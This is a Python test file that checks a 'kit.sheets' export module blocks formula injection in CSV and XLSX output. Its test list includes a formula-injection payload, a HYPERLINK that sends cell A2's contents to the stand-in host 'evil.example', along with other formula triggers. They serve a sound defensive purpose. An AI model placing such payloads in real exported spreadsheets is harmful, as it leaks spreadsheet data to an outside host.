"""kit.sheets: what people typed never becomes a spreadsheet formula, in CSV or XLSX."""

from __future__ import annotations

import csv
import io
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from kit import sheets

STRING_OR_NUMBER = {"s", "inlineStr", "n"}  # never "f"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\uff1d1+1",  # full-width equals sign
]


def test_formula_like_text_is_quoted_in_csv() -> None:
    body = sheets.to_csv(["a", "b"], [[f, 5] for f in FORMULAS], bom=True)
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline="")))
    assert rows[0] == ["a", "b"]
    for given_, row in zip(FORMULAS, rows[1:], strict=True):
        assert row == ["'" + given_, "5"]
    assert sheets.text("plain - text = fine") == "plain - text = fine"
    assert sheets.text(None) == "" and sheets.text(True) == "true"


def read_back(body: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(body))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def test_xlsx_cells_are_strings_or_numbers_never_formulas() -> None:
    rows: list[list[Any]] = [["text", "number"], *([f, 1.5] for f in FORMULAS)]
    rows.append(["bell\x07 and nul\x00 dropped", 7])
    rows.append([None, True])
    body = sheets.to_xlsx([sheets.Sheet("a:b/c?" * 10, rows, bold_rows=1)])
    cells = read_back(body)
    assert {c.data_type for c in cells} <= STRING_OR_NUMBER
    values = [c.value for c in cells]
    for formula in FORMULAS:  # (XML reads a CR as a line feed)
        assert formula.replace("\r", "\n") in values
    assert "bell and nul dropped" in values and 1.5 in values and 7 in values
    quoted = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\n \uff1d"]
    assert len(quoted) == len(FORMULAS) and all(c.quotePrefix for c in quoted)
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["abc" * 10]
    assert book.worksheets[0]["A1"].font.bold


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False))))
def test_any_value_exports_without_a_formula(values: list[Any]) -> None:
    for value in values:
        shown = sheets.text(value)
        starts = {shown[:1], shown.lstrip(" ")[:1]} - {""}
        assert shown.startswith("'") or not starts & set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    if values:
        cells = read_back(sheets.to_xlsx([sheets.Sheet("s", [values])]))
        assert {c.data_type for c in cells} <= STRING_OR_NUMBER
